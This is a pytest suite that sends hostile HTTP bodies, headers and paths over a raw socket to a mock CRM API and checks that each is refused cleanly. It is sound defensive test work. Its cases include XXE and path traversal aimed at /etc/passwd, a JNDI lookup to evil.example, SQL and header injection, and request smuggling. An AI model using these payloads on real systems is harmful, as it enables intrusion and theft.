"""Hostile requests over a real socket: each is refused in the API's own words, none harms the server.

Where a status below is 200, the input is harmless in truth, and the case says why.
"""

import base64
import json
import random
import re
import socket
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_from_bytes

import pytest
from contract.door import BASIC, strictly
from contract.shapes import faults
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from so_mock.catalogue import Catalogue

SAVE = "/api/v1/Agents/CustomerService/SaveMailboxEntity"
CONTACT = "/api/v1/Agents/Contact/SaveContactEntity"
LIST = "/api/v1/Agents/Contact/GetContactList"
GET = "/api/v1/Agents/Contact/GetContactEntity"
JSON = (b"Content-Type", b"application/json")
AUTH = (b"Authorization", BASIC.encode())
FORM_1 = {"Error", "ErrorType", "Message", "ErrorMessage", "ErrorSource"}
CARRIERS = Catalogue.load().carriers
MEGABYTE = 1024 * 1024

Header = tuple[bytes, bytes]


@dataclass(frozen=True, slots=True)
class Reply:
    status: int
    headers: dict[str, str]
    body: bytes


class Line:
    """One connection, kept alive, that sends whatever bytes it is told."""

    def __init__(self, url: str) -> None:
        host, _, port = url.removeprefix("http://").partition(":")
        self._socket = socket.create_connection((host, int(port)), timeout=30)
        self._file = self._socket.makefile("rb")

    def close(self) -> None:
        self._file.close()
        self._socket.close()

    def send(self, data: bytes) -> Reply:
        self._socket.sendall(data)
        return self.read(head=data.startswith(b"HEAD "))

    def read(self, head: bool = False) -> Reply:
        first = self._file.readline()
        found = re.fullmatch(rb"HTTP/1\.1 (\d{3}) [^\r]*\r\n", first)
        assert found, first
        headers = {}
        while (line := self._file.readline()) not in (b"\r\n", b""):
            name, _, value = line.decode("latin-1").partition(":")
            headers[name.lower()] = value.strip()
        length = 0 if head else int(headers.get("content-length", 0))
        return Reply(int(found[1]), headers, self._file.read(length))


def request(
    verb: str | bytes, target: str | bytes, body: bytes = b"", headers: tuple[Header, ...] = (JSON, AUTH)
) -> bytes:  # fmt: skip
    verb = verb.encode() if isinstance(verb, str) else verb
    target = target.encode("latin-1") if isinstance(target, str) else target
    lines = [verb + b" " + target + b" HTTP/1.1", b"Host: so.test"]
    lines += [name + b": " + value for name, value in headers]
    if body and not any(name.lower() == b"transfer-encoding" for name, _ in headers):
        lines.append(b"Content-Length: %d" % len(body))
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


@pytest.fixture
def line(live_server: Any) -> Iterator[Line]:
    made = Line(live_server.url)
    yield made
    made.close()


def alive(line: Line) -> None:
    reply = line.send(request("GET", "/api/v1/Contact/5"))
    assert (reply.status, strictly(reply.body)["ContactId"]) == (200, 5)


def refused(reply: Reply, status: int) -> None:
    """In form 1, or in the binder's one or two lines; nothing of so-mock's inside is told."""
    assert reply.status == status, reply.body[:400]
    if status in (200, 204):
        return
    assert reply.headers["content-type"] == "application/json; charset=utf-8"
    body = strictly(reply.body)
    if "Error" in body:
        assert body.keys() - {"MessageDetail"} == FORM_1
        assert body["Error"] is True
        assert body["Message"] == body["ErrorMessage"] != ""
    else:
        assert body.keys() - {"MessageDetail"} == {"Message"}
        assert body["Message"]
    for inside in (b"Traceback", b"so_mock/web", b".py", b"orjson"):
        assert inside not in reply.body
    assert len(reply.body) < 4_000, "what was sent is not sent back"


# -- bodies

DEEP = 100_000
BODIES: list[tuple[str, str, bytes, int]] = [
    # name, path, body, status
    ("brackets", SAVE, b"[" * DEEP, 400),
    ("braces", SAVE, b'{"a":' * DEEP, 400),
    ("bare braces", SAVE, b"{" * DEEP, 400),
    ("closed brackets", SAVE, b"[" * DEEP + b"]" * DEEP, 400),
    ("closed brackets within a property", SAVE, b'{"Address":%s}' % (b"[" * 900 + b"]" * 900), 400),
    ("closed brackets, lenient", SAVE, b"{Address:%s}" % (b"[" * 900 + b"]" * 900), 400),
    ("deep in what is ignored", SAVE, b'{"Zzz":%s}' % (b"[" * 900 + b"]" * 900), 400),
    ("deep in a list of ids", LIST, b"[" * 300 + b"1" + b"]" * 300, 400),
    ("open string", SAVE, b'{"Address":"' + b"x" * 100_000, 400),
    ("backslashes and quotes", SAVE, b'"\\' * 100_000, 400),
    ("single quotes", SAVE, b"'" * 99_999, 400),
    ("open comment", SAVE, b"/* " * 50_000, 400),
    ("open comment after a value", SAVE, b"{}/*", 400),
    ("slashes", SAVE, b"/" * 99_999, 400),
    ("line comments and no value", SAVE, b"// x\n" * 10_000, 400),
    ("commas", SAVE, b"[" + b"," * 100_000 + b"]", 400),
    ("one comma", SAVE, b",", 400),
    ("colon", SAVE, b"{:}", 400),
    ("no value", SAVE, b'{"Port":}', 400),
    ("no comma", SAVE, b'{"Port":1 "Server":2}', 400),
    ("a key that is a number", SAVE, b'{1:2}', 400),
    ("two values", SAVE, b"{}{}", 400),
    ("NaN", SAVE, b'{"Port":NaN}', 400),
    ("Infinity", SAVE, b'{"Port":Infinity}', 400),
    ("-Infinity", SAVE, b'{"Port":-Infinity}', 400),
    ("NaN as text", SAVE, b'{"Port":"NaN"}', 400),
    ("NaN for a double", CONTACT, b'{"Name":"x","Address":{"Wgs84Latitude":"NaN"}}', 400),
    ("infinite double", CONTACT, b'{"Name":"x","Address":{"Wgs84Latitude":"1e999"}}', 400),
    ("huge exponent", SAVE, b'{"Port":1e999}', 400),
    ("huge exponent within range of a double", SAVE, b'{"Port":1e300}', 400),
    ("5,000 digits", SAVE, b'{"Port":%s}' % (b"9" * 5_000), 400),
    ("5,000 digits as text", SAVE, b'{"Port":"%s"}' % (b"9" * 5_000), 400),
    ("5,000 digits, lenient", SAVE, b"{Port:%s}" % (b"9" * 5_000), 400),
    ("2^31", SAVE, b'{"Port":2147483648}', 400),
    ("-2^31-1", SAVE, b'{"Port":-2147483649}', 400),
    ("2^64", SAVE, b'{"Port":18446744073709551616}', 400),
    ("hexadecimal text", SAVE, b'{"Port":"0x1F"}', 400),
    ("number with underscore", SAVE, b'{"Port":"1_000"}', 400),
    ("leading zeros", SAVE, b'{"Port":007}', 400),
    ("half a surrogate pair", SAVE, b'{"Address":"\\ud800"}', 400),
    ("the other half", SAVE, b'{"Address":"\\udc00x"}', 400),
    ("half a surrogate pair, lenient", SAVE, b'{Address:"\\ud800"}', 400),
    ("half a surrogate pair in a key", SAVE, b'{"\\ud800":1}', 400),
    ("surrogate in UTF-8", SAVE, b'{"Address":"\xed\xa0\x80"}', 400),
    ("overlong UTF-8", SAVE, b'{"Address":"\xc0\xaf"}', 400),
    ("UTF-8 beyond Unicode", SAVE, b'{"Address":"\xf5\x80\x80\x80"}', 400),
    ("cut UTF-8", SAVE, b'{"Address":"\xe6\xbc"}', 400),
    ("latin-1", SAVE, b'{"Address":"\xe6"}', 400),
    ("cut UTF-16", SAVE, '{"Port":1}'.encode("utf-16")[:-1], 400),
    ("gzip without saying so", SAVE, b"\x1f\x8b\x08\x00\x00\x00\x00\x00", 400),
    ("NUL", SAVE, b"\x00", 400),
    ("NUL after the value", SAVE, b'{"Port":1}\x00', 400),
    ("bad escape", SAVE, b'{"Address":"\\u12"}', 400),
    ("XML", SAVE, b"<MailboxEntity/>", 400),
    ("entities of XML", SAVE, b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>', 400),
    ("a form", SAVE, b"Port=1&Server=x", 400),
    ("code", SAVE, b"__import__('os').system('true')", 400),
    ("undefined", SAVE, b"undefined", 400),
    ("True", SAVE, b"True", 400),
    ("a truth", SAVE, b"true", 400),
    ("a text", SAVE, b'"x"', 400),
    ("a number", SAVE, b"0", 400),
    ("an array for an entity", SAVE, b"[{}]", 400),
    ("an object for a list", LIST, b'{"0":1}', 400),
    ("a list of lists", LIST, b"[[1]]", 400),
    ("a list of truths", LIST, b"[true]", 400),
    ("a list of objects", LIST, b"[{}]", 400),
    ("an id beyond int32", LIST, b"[2147483648]", 400),
    ("negative id beyond int32", LIST, b"[-9999999999]", 400),
    ("an object for a text", SAVE, b'{"Address":{"$gt":""}}', 400),
    ("an object for a number", SAVE, b'{"Port":{"$ne":0}}', 400),
    ("a long list for an enum", SAVE, b'{"ServerType":[%s1]}' % (b"1," * 50_000), 400),
    ("a long text for an enum", SAVE, b'{"ServerType":"%s"}' % (b"Imap" * 50_000), 400),
    ("a long text for a number", SAVE, b'{"Port":"%s"}' % (b"1x" * 50_000), 400),
    ("a long text for a truth", CONTACT, b'{"NoMailing":"%s"}' % (b"t" * 100_000), 400),
    ("a long date", "/api/v1/Person", b'{"BirthDate":"%s"}' % (b"2026-01-01T" * 9_000), 400),
    ("blanks for a date", "/api/v1/Person", b'{"BirthDate":"%s"}' % (b" " * 100_000 + b"x"), 400),
    ("month 13", "/api/v1/Person", b'{"BirthDate":"2026-13-01T00:00:00"}', 400),
    ("year 0", "/api/v1/Person", b'{"BirthDate":"0000-01-01T00:00:00"}', 400),
    ("offset of 99 hours", "/api/v1/Person", b'{"BirthDate":"2026-01-01T00:00:00+99:00"}', 400),
    ("a date that is a number", "/api/v1/Person", b'{"BirthDate":20260101}', 400),
    ("time span of many days", "/api/v1/Appointment", b'{"AlarmLeadTime":"%s.01:00:00"}' % (b"9" * 5_000), 400),
    ("time span of many seconds", "/api/v1/Appointment", b'{"AlarmLeadTime":"PT%sS"}' % (b"9" * 400), 400),
    ("time span that is a list", "/api/v1/Appointment", b'{"AlarmLeadTime":[[[[]]]]}', 400),
    ("blanks for base64", "/api/v1/Agents/Document/SetDocumentStreamFromId", b'{"Stream":"%s!"}' % (b" " * 100_000), 400),
    ("no base64", "/api/v1/Agents/Document/SetDocumentStreamFromId", b'{"Stream":"\\u00e6"}', 400),
    ("cut base64", "/api/v1/Agents/Document/SetDocumentStreamFromId", b'{"Stream":"AAA"}', 400),
    ("base64 that is a number", "/api/v1/Agents/Document/SetDocumentStreamFromId", b'{"Stream":5}', 400),
    ("a map with a value that is a map", CONTACT, b'{"Name":"x","ExtraFields":{"%s":{}}}' % (b"k" * 100_000), 400),
    ("a map that is a text", CONTACT, b'{"Name":"x","CustomFields":"{}"}', 400),
    ("nested carrier of the wrong kind", CONTACT, b'{"Name":"x","Emails":[[]]}', 400),
    ("an id that is a text", CONTACT, b'{"Name":"x","Category":{"Id":"1; DROP TABLE contact"}}', 400),
    ("patch with an unknown op", "PATCH /api/v1/Contact/5", b'[{"op":"move","path":"/Name","from":"/x"}]', 400),
    ("patch with no path", "PATCH /api/v1/Contact/5", b'[{"op":"add","value":1}]', 400),
    ("patch with a path of a number", "PATCH /api/v1/Contact/5", b'[{"op":"add","path":5,"value":1}]', 400),
    ("patch that is a text", "PATCH /api/v1/Contact/5", b'"x"', 400),
    ("patch of numbers", "PATCH /api/v1/Contact/5", b"[1,2]", 400),
    ("patch of nothing known", "PATCH /api/v1/Contact/5", b'{"__class__":{"x":1}}', 400),
    ("patch of a negative position", "PATCH /api/v1/Contact/5", b'[{"op":"remove","path":"/Emails/-1"}]', 400),
    ("patch of a far position", "PATCH /api/v1/Contact/5", b'[{"op":"add","path":"/Emails/99999999999999999999","value":{}}]', 400),
    ("patch of a position with other digits", "PATCH /api/v1/Contact/5", '[{"op":"add","path":"/Emails/²","value":{}}]'.encode(), 400),
    ("patch of a deep path", "PATCH /api/v1/Contact/5", b'[{"op":"add","path":"%s","value":1}]' % (b"/a" * 50_000), 400),
    ("patch below a text", "PATCH /api/v1/Contact/5", b'[{"op":"add","path":"/Name/x/y","value":1}]', 400),
    ("patch below nothing", "PATCH /api/v1/Contact/5", b'[{"op":"add","path":"/SupportPerson/Nope","value":1}]', 400),
    ("patch of the whole", "PATCH /api/v1/Contact/5", b'[{"op":"replace","path":"","value":{}}]', 400),
    ("patch with a text for a list", "PATCH /api/v1/Contact/5", b'{"Emails":"x"}', 400),
    ("patch with a list for a carrier", "PATCH /api/v1/Contact/5", b'{"Category":[1]}', 400),
    ("patch below a list that holds texts", "PATCH /api/v1/Contact/5", b'[{"op":"add","path":"/Emails","value":["x"]},{"op":"add","path":"/Emails/1/Value","value":"y"}]', 400),
    ("patch below a carrier that was made a text", "PATCH /api/v1/Contact/5", b'[{"op":"replace","path":"/Address","value":"x"},{"op":"add","path":"/Address/Street/City","value":"y"}]', 400),
    ("patch appending to a list that was made a text", "PATCH /api/v1/Contact/5", b'[{"op":"replace","path":"/Emails","value":"x"},{"op":"add","path":"/Emails","value":{}}]', 400),
    ("patch merging into a map that was made a list", "PATCH /api/v1/Contact/5", b'[{"op":"replace","path":"/ExtraFields","value":[1]},{"op":"add","path":"/ExtraFields","value":{"a":"b"}}]', 400),
    ("patch that clears the name", "PATCH /api/v1/Contact/5", b'{"Name":null}', 400),
    ("patch with a failing test of a deep value", "PATCH /api/v1/Contact/5", b'[{"op":"test","path":"/Name","value":%s}]' % (b"[" * 150 + b"]" * 150), 409),
    ("an unknown id", "PATCH /api/v1/Contact/-5", b"[]", 404),
    # Harmless: a name told twice takes its last value, as Json.NET has it.
    ("a name told twice", SAVE, b'{"Port":1,"Port":2,"port":3}', 200),
    # Harmless: nobody declared these names, and the answer says they were ignored.
    ("names of Python", SAVE, b'{"__class__":1,"__proto__":{"x":1},"constructor":2}', 200),
    ("a long unknown name", SAVE, b'{"%s":1}' % (b"x" * 200_000), 200),
    ("ten thousand unknown names", SAVE, json.dumps({f"n{n}": n for n in range(10_000)}).encode(), 200),
    # Harmless: text is text, whatever it spells; it comes back as it went in.
    ("markup in a text", SAVE, b'{"Address":"<script>alert(1)</script>"}', 200),
    ("SQL in a text", SAVE, b'{"Address":"\'; DROP TABLE mailbox; --"}', 200),
    ("NUL in a text", SAVE, b'{"Address":"a\\u0000b"}', 200),
    ("a template in a text", SAVE, b'{"Address":"{{7*7}} ${7*7} %s %n"}', 200),
    ("a text that turns direction", SAVE, '{"Address":"\u202eevil\u2066"}'.encode(), 200),
    ("a long text", SAVE, b'{"Address":"%s"}' % (b"x" * 300_000), 200),
    # Harmless: ids that do not exist are left out, and one that is asked for often is told once.
    ("ids that do not exist", LIST, b"[-1,0,-2147483648,2147483647]", 200),
    ("one id very often", LIST, b"[%s5]" % (b"5," * 100_000), 200),
]  # fmt: skip


@pytest.mark.parametrize(("path", "body", "status"), [c[1:] for c in BODIES], ids=[c[0] for c in BODIES])  # fmt: skip
def test_a_hostile_body_is_refused(line: Line, path: str, body: bytes, status: int) -> None:
    verb, _, target = path.rpartition(" ")
    reply = line.send(request(verb or "POST", target, body))
    if status == 200:
        assert reply.status == 200, reply.body[:400]
        assert len(reply.headers.get("x-so-mock-ignored", "")) < 4_000
        if path != LIST:
            assert (
                list(faults(strictly(reply.body), CARRIERS.type("MailboxEntity"), CARRIERS)) == []
            )
    else:
        refused(reply, status)
    alive(line)


def test_what_was_harmless_comes_back_as_it_went_in(line: Line) -> None:
    for name, path, body, status in BODIES:
        if status == 200 and path == SAVE and "text" in name:
            reply = line.send(request("POST", path, body))
            assert strictly(reply.body)["Address"] == json.loads(body)["Address"]
    listed = strictly(line.send(request("POST", LIST, b"[%s5]" % (b"5," * 1_000))).body)
    assert [each["ContactId"] for each in listed] == [5]


WHOLE = json.dumps(
    {"MailInFilterId": 0, "ServerType": "Imaps", "Address": "<a@b.example>", "Server": "x", "Port": 993}
).encode()  # fmt: skip


def test_every_cut_of_a_body_is_refused(line: Line) -> None:
    for end in range(1, len(WHOLE)):
        refused(line.send(request("POST", SAVE, WHOLE[:end])), 400)
    assert line.send(request("POST", SAVE, WHOLE)).status == 200


def test_bytes_that_are_no_text_are_refused_wherever_they_stand(line: Line) -> None:
    at_random = random.Random(4)
    for _ in range(200):
        at = at_random.randrange(len(WHOLE))
        broken = WHOLE[:at] + bytes([at_random.randrange(0xF5, 0x100)]) + WHOLE[at:]
        refused(line.send(request("POST", SAVE, broken)), 400)
    for _ in range(100):
        noise = b"\xff" + at_random.randbytes(at_random.randrange(2_000))
        refused(line.send(request("POST", SAVE, noise)), 400)
    alive(line)


# -- headers

LONG = b"x" * 300_000
HEADERS: list[tuple[str, tuple[Header, ...], int]] = [
    ("no base64", (JSON, (b"Authorization", b"Basic ***")), 401),
    ("base64 of no text", (JSON, (b"Authorization", b"Basic " + base64.b64encode(b"\xff\xfe:\x80"))), 401),
    ("base64 without colon", (JSON, (b"Authorization", b"Basic " + base64.b64encode(b"tje0"))), 401),
    ("base64 of nothing", (JSON, (b"Authorization", b"Basic " + base64.b64encode(b":"))), 401),
    ("base64 with blanks", (JSON, (b"Authorization", b"Basic dGpl MDpU amUw")), 401),
    ("non-ASCII credential", (JSON, (b"Authorization", b"Basic \xe6\xf8\xe5")), 401),
    ("non-ASCII scheme", (JSON, (b"Authorization", b"B\xe4sic dGplMDpUamUw")), 401),
    ("long scheme", (JSON, (b"Authorization", LONG)), 401),
    ("long bad base64", (JSON, (b"Authorization", b"Basic " + b"*" * 300_000)), 401),
    ("empty", (JSON, (b"Authorization", b"")), 401),
    ("only blanks", (JSON, (b"Authorization", b"   ")), 401),
    ("wrong password with NUL", (JSON, (b"Authorization", b"Basic " + base64.b64encode(b"tje0:\x00"))), 401),
    ("name of a user with blanks", (JSON, (b"Authorization", b"Digest username=tje0")), 401),
    ("good then bad", (JSON, AUTH, (b"Authorization", b"Basic ***")), 401),
    ("good then wrong password", (JSON, AUTH, (b"Authorization", b"Basic " + base64.b64encode(b"tje0:x"))), 401),
    ("XSRF token alone", (JSON, (b"X-XSRF-TOKEN", b"' OR 1=1 --")), 401),
    ("type of nothing", ((b"Content-Type", b"/"), AUTH), 415),
    ("long type", ((b"Content-Type", b"application/" + b"x" * 3_000), AUTH), 415),
    ("non-ASCII type", ((b"Content-Type", b"\xe6/\xf8"), AUTH), 415),
    ("two types", ((b"Content-Type", b"application/json, text/plain"), AUTH), 415),
    ("XML", ((b"Content-Type", b"text/plain"), AUTH), 415),
    ("zip", ((b"Content-Type", b"application/zip"), AUTH), 415),
    ("multipart", ((b"Content-Type", b"multipart/form-data"), AUTH), 415),
    ("gzip that is none", (JSON, AUTH, (b"Content-Encoding", b"gzip")), 400),
    ("gzip twice", (JSON, AUTH, (b"Content-Encoding", b"gzip, gzip")), 400),
    ("unknown coding", (JSON, AUTH, (b"Content-Encoding", b"zstd")), 415),
    ("long encoding", (JSON, AUTH, (b"Content-Encoding", LONG)), 415),
    ("charset of nothing", ((b"Content-Type", b"application/json; charset=%"), AUTH), 400),
    ("charset of bytes", ((b"Content-Type", b"application/json; charset=base64"), AUTH), 400),
    ("charset zip", ((b"Content-Type", b"application/json; charset=zip"), AUTH), 400),
    ("charset rot13", ((b"Content-Type", b"application/json; charset=rot13"), AUTH), 400),
    ("charset idna", ((b"Content-Type", b"application/json; charset=idna"), AUTH), 400),
    ("charset punycode", ((b"Content-Type", b"application/json; charset=punycode"), AUTH), 400),
    ("charset undefined", ((b"Content-Type", b"application/json; charset=undefined"), AUTH), 400),
    ("charset unicode_escape", ((b"Content-Type", b"application/json; charset=unicode_escape"), AUTH), 400),
    ("charset utf-7", ((b"Content-Type", b"application/json; charset=utf-7"), AUTH), 400),
    ("charset with a path", ((b"Content-Type", b"application/json; charset=../../etc/passwd"), AUTH), 400),
    ("charset non-ASCII", ((b"Content-Type", b"application/json; charset=\xe6"), AUTH), 400),
    ("long charset", ((b"Content-Type", b"application/json; charset=" + LONG), AUTH), 400),
    ("charset that does not fit", ((b"Content-Type", b"application/json; charset=utf-32"), AUTH), 400),
    ("charset utf-16 of an odd length", ((b"Content-Type", b"text/json; charset=utf-16"), AUTH), 400),
    # Harmless: JSON whatever is accepted (wire.md 3.1), and parameters of a type mean nothing.
    ("huge Accept", (JSON, AUTH, (b"Accept", b"text/x," * 50_000)), 200),
    ("non-ASCII Accept", (JSON, AUTH, (b"Accept", b"\xff\xfe;q=\x80")), 200),
    ("broken quality", (JSON, AUTH, (b"Accept", b"application/json;q=NaN;q=;;;,,,")), 200),
    ("a thousand parameters", ((b"Content-Type", b"application/json" + b";a=b" * 1_000), AUTH), 200),
    # Harmless: these are named as ignored, or mean nothing to anybody.
    ("languages", (JSON, AUTH, (b"SO-Language", b"../../x\xe6")), 200),
    ("time zone", (JSON, AUTH, (b"SO-TimeZone", b"'; DROP TABLE timezone")), 200),
    ("date that is none", (JSON, AUTH, (b"If-Modified-Since", b"yesterday\xff")), 200),
    ("a hundred of one", (JSON, AUTH, *[(b"SO-Language", b"en")] * 100), 200),
    ("a thousand unknown", (JSON, AUTH, *[(b"X-%d" % n, b"y") for n in range(1_000)]), 200),
    ("method override", (JSON, AUTH, (b"X-HTTP-Method-Override", b"DELETE")), 200),
    ("forwarded", (JSON, AUTH, (b"X-Forwarded-For", b"\xff\xfe"), (b"X-Forwarded-Host", b"evil")), 200),
    ("two hosts", (JSON, AUTH, (b"Host", b'"><script>')), 200),
    ("long host", (JSON, AUTH, (b"Host", LONG)), 200),
    ("base64 with too much padding", (JSON, (b"Authorization", b"Basic dGplMDpUamUw=")), 401),
    ("bad then good credential", (JSON, (b"Authorization", b"Basic ***"), AUTH), 200),
    ("range", (JSON, AUTH, (b"Range", b"bytes=0-,-1,99999999999999999999-")), 200),
    ("cookies", (JSON, AUTH, (b"Cookie", b"a=b;" * 10_000)), 200),
]  # fmt: skip


@pytest.mark.parametrize(("headers", "status"), [c[1:] for c in HEADERS], ids=[c[0] for c in HEADERS])  # fmt: skip
def test_hostile_headers_are_refused(line: Line, headers: tuple[Header, ...], status: int) -> None:
    reply = line.send(request("POST", SAVE, b'{"Port":1 }', headers))
    if status == 415:
        reply = Reply(reply.status, reply.headers, reply.body.replace(b"x" * 1_000, b""))
    refused(reply, status)
    alive(line)


# -- paths and queries

LONG_PATH = "x" * 60_000
TARGETS: list[tuple[str, str, str, int]] = [
    ("NUL", "GET", "/api/v1/Contact/%00", 400),
    ("NUL in an id", "GET", "/api/v1/Contact/5%00", 400),
    ("percent garbage", "GET", "/api/v1/Contact/%zz", 400),
    ("cut percent", "GET", "/api/v1/Contact/%", 400),
    ("cut percent two", "GET", "/api/v1/Contact/%4", 400),
    ("percent of percent", "GET", "/api/v1/Contact/%2535", 400),
    ("invalid UTF-8", "GET", "/api/v1/Contact/%ff%fe", 400),
    ("surrogate", "GET", "/api/v1/Contact/%ed%a0%80", 400),
    ("slash within", "GET", "/api/v1/Contact/5%2F5", 400),
    ("backslash within", "GET", "/api/v1/Contact/..%5c..%5cboot.ini", 400),
    ("upward", "GET", "/api/v1/Contact/..%2f..%2f..%2fetc%2fpasswd", 400),
    ("upward, plainly", "GET", "/api/v1/../../../etc/passwd", 404),
    ("upward twice encoded", "GET", "/api/v1/%252e%252e/%252e%252e/etc/passwd", 404),
    ("upward out of the API", "GET", "/api/../_so_mock/health", 404),
    ("dots", "GET", "/api/v1/./Contact/5", 404),
    ("line break", "GET", "/api/v1/Contact/5%0d%0aX-Evil:%201", 400),
    ("line break in an unknown path", "GET", "/api/v1/Nowhere%0d%0aX-Evil:%201", 404),
    ("line break in a tenant", "GET", "/Cust1%0d%0aX-Evil:%201/api/v1/Nowhere", 404),
    ("unknown tenant", "GET", "/Cust99999999999999999999999999/api/v1/Contact/5", 404),
    ("long tenant", "GET", f"/Cust{'9' * 50_000}/api/v1/Contact/5", 404),
    ("long path", "GET", f"/api/v1/{LONG_PATH}", 404),
    ("long id", "GET", f"/api/v1/Contact/{'9' * 60_000}", 400),
    ("long id of no digits", "GET", f"/api/v1/Contact/{LONG_PATH}", 400),
    ("deep path", "GET", "/api/v1" + "/a" * 25_000, 404),
    ("deep known path", "GET", "/api/v1/List" + "/1" * 20_000, 404),
    ("only slashes", "GET", "/" * 5_000, 404),
    ("api many times", "GET", "/api" * 5_000, 404),
    ("long agent", "POST", f"/api/v1/Agents/{LONG_PATH}/{LONG_PATH[:200]}", 404),
    ("agent without method", "POST", "/api/v1/Agents/Contact", 404),
    ("agent with too much", "POST", "/api/v1/Agents/Contact/GetContactEntity/5", 404),
    ("agents alone", "POST", "/api/v1/Agents", 404),
    ("encoded unicode", "GET", "/api/v1/Contact/%E6%BC%A2", 400),
    ("encoded emoji", "GET", "/api/v1/%F0%9F%92%A9", 404),
    ("digits of another script", "GET", "/api/v1/Contact/%C2%B2", 400),
    ("negative zero and more", "GET", "/api/v1/Contact/--5", 400),
    ("float", "GET", "/api/v1/Contact/5.5", 400),
    ("exponent", "GET", "/api/v1/Contact/1e3", 400),
    ("hexadecimal", "GET", "/api/v1/Contact/0x5", 400),
    ("beyond int32", "GET", "/api/v1/Contact/2147483648", 400),
    ("beyond int64", "GET", "/api/v1/Contact/-99999999999999999999", 400),
    ("SQL", "GET", "/api/v1/Contact/5%20OR%201=1", 400),
    ("negative id", "GET", "/api/v1/Contact/-1", 404),
    ("zero", "GET", "/api/v1/Contact/0", 404),
    ("smallest id", "GET", "/api/v1/Contact/-2147483648", 404),
    ("largest id", "GET", "/api/v1/Contact/2147483647", 404),
    ("Java", "GET", "/api/v1/${jndi:ldap://evil.example/a}", 404),
    ("PHP", "GET", "/api/v1/index.php?page=php://filter", 404),
    ("private method", "POST", "/api/v1/Agents/Contact/__class__", 404),
    ("root", "GET", "/", 404),
    ("no api", "GET", "/wp-admin/", 404),
    ("version 2", "GET", "/api/v2/Contact/5", 404),
    ("empty id", "POST", f"{GET}?contactEntityId=", 400),
    ("missing id", "POST", GET, 400),
    ("id of NUL", "POST", f"{GET}?contactEntityId=%00", 400),
    ("id of percent garbage", "POST", f"{GET}?contactEntityId=%zz", 400),
    ("id of invalid UTF-8", "POST", f"{GET}?contactEntityId=%ff", 400),
    ("id of 60,000 digits", "POST", f"{GET}?contactEntityId={'9' * 60_000}", 400),
    ("id that is a list", "POST", f"{GET}?contactEntityId[]=5", 400),
    ("id told twice, the last wrong", "POST", f"{GET}?contactEntityId=5&contactEntityId=x", 400),
    ("id beyond int32", "POST", f"{GET}?contactEntityId=99999999999", 400),
    ("id NaN", "POST", f"{GET}?contactEntityId=NaN", 400),
    ("id Infinity", "POST", f"{GET}?contactEntityId=Infinity", 400),
    ("id of another script", "POST", f"{GET}?contactEntityId=%C2%B2", 400),
    ("3,000 fields", "POST", f"{GET}?contactEntityId=5&" + "a=b&" * 3_000, 400),
    ("30,000 separators", "POST", f"{GET}?contactEntityId=5" + "&" * 30_000 + "=" * 9_000, 400),
    ("TRACE", "TRACE", "/api/v1/Contact/5", 405),
    ("DELETE of the API", "DELETE", "/api", 405),
    ("PUT on a method", "PUT", SAVE, 405),
    # Harmless: a field or a selected name that nobody declared is told as ignored.
    ("many unknown fields", "POST", f"{GET}?contactEntityId=5&" + "a=b&" * 1_000, 200),
    ("line break in a field", "POST", f"{GET}?contactEntityId=5&x%0d%0aX-Evil:%201=1", 200),
    ("select of nothing known", "POST", f"{GET}?contactEntityId=5&$select=__class__,../x,%00,%ff", 200),
    ("select of many", "POST", f"{GET}?contactEntityId=5&$select=" + "a," * 20_000, 200),
    ("select of depth", "POST", f"{GET}?contactEntityId=5&$select=" + "Category/" * 6_000, 200),
    ("select of endless depth", "GET", "/api/v1/Hierarchy/default?$select=" + "Children/" * 6_000, 200),
    ("select of slashes", "POST", f"{GET}?contactEntityId=5&$select=" + "/" * 20_000, 200),
    # Harmless: an agent says null for an id that does not exist.
    ("id -1", "POST", f"{GET}?contactEntityId=-1", 200),
    ("id told twice, the last right", "POST", f"{GET}?contactEntityId=x&contactEntityId=5", 200),
]  # fmt: skip


@pytest.mark.parametrize(("verb", "target", "status"), [c[1:] for c in TARGETS], ids=[c[0] for c in TARGETS])  # fmt: skip
def test_a_hostile_address_is_refused(line: Line, verb: str, target: str, status: int) -> None:
    reply = line.send(request(verb, target, headers=(AUTH,)))
    refused(reply, status)
    assert "x-evil" not in reply.headers
    assert b"root:" not in reply.body
    alive(line)


EVIL = [
    "a\r\nX-Evil: 1",
    "a\nX-Evil: 1",
    "a\rX-Evil: 1",
    "a\u2028X-Evil: 1",
    "a\x00b",
    "æ",
    "a,b",
    "\x7f",
    "😀",
]


@pytest.mark.parametrize("name", EVIL, ids=ascii)
def test_a_property_name_cannot_add_a_header(line: Line, name: str) -> None:
    reply = line.send(request("POST", SAVE, json.dumps({name: 1, "Port": 1}).encode()))
    assert reply.status == 200, "harmless: an unknown property is ignored and told"
    assert "x-evil" not in reply.headers
    assert re.fullmatch(r"[\x20-\x7e]+", reply.headers["x-so-mock-ignored"])
    assert reply.headers["x-so-mock-ignored"].count(",") == 0
    alive(line)


@pytest.mark.parametrize("verb", ["GET", "PUT", "DELETE", "PATCH", "POST"])
@pytest.mark.parametrize("auth", [b"Basic ***", b"Basic dGplMDp4", b"", b"Nonsense"])
def test_nobody_gets_in_with_a_bad_credential(line: Line, verb: str, auth: bytes) -> None:
    target = "/api/v1/Contact" if verb == "POST" else "/api/v1/Contact/5"
    body = b"" if verb in ("GET", "DELETE") else b'{"Name":"Owned"}'
    refused(line.send(request(verb, target, body, (JSON, (b"Authorization", auth)))), 401)
    reply = line.send(request("GET", "/api/v1/Contact/5"))
    assert strictly(reply.body)["Name"] == "Lindqvist & Söner AB"


def test_a_body_larger_than_announced_is_another_request(line: Line) -> None:
    """What follows the announced length is read as a request of its own, not as part of the body."""
    smuggled = request("GET", "/api/v1/Contact/6")
    reply = line.send(request("POST", SAVE, b'{"Port":1}') + smuggled)
    assert strictly(reply.body)["Port"] == 1
    assert strictly(line.read().body)["ContactId"] == 6
    alive(line)


def test_a_body_in_pieces_is_one_body(line: Line) -> None:
    pieces = (
        b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in (b'{"Po', b'rt":', b"7}")) + b"0\r\n\r\n"
    )
    head = request("POST", SAVE, b"", (JSON, AUTH, (b"Transfer-Encoding", b"chunked")))
    assert strictly(line.send(head + pieces).body)["Port"] == 7
    empty = line.send(head + b"0\r\n\r\n")
    refused(empty, 400)
    alive(line)


def test_a_client_that_leaves_half_way_leaves_nothing_behind(live_server: Any) -> None:
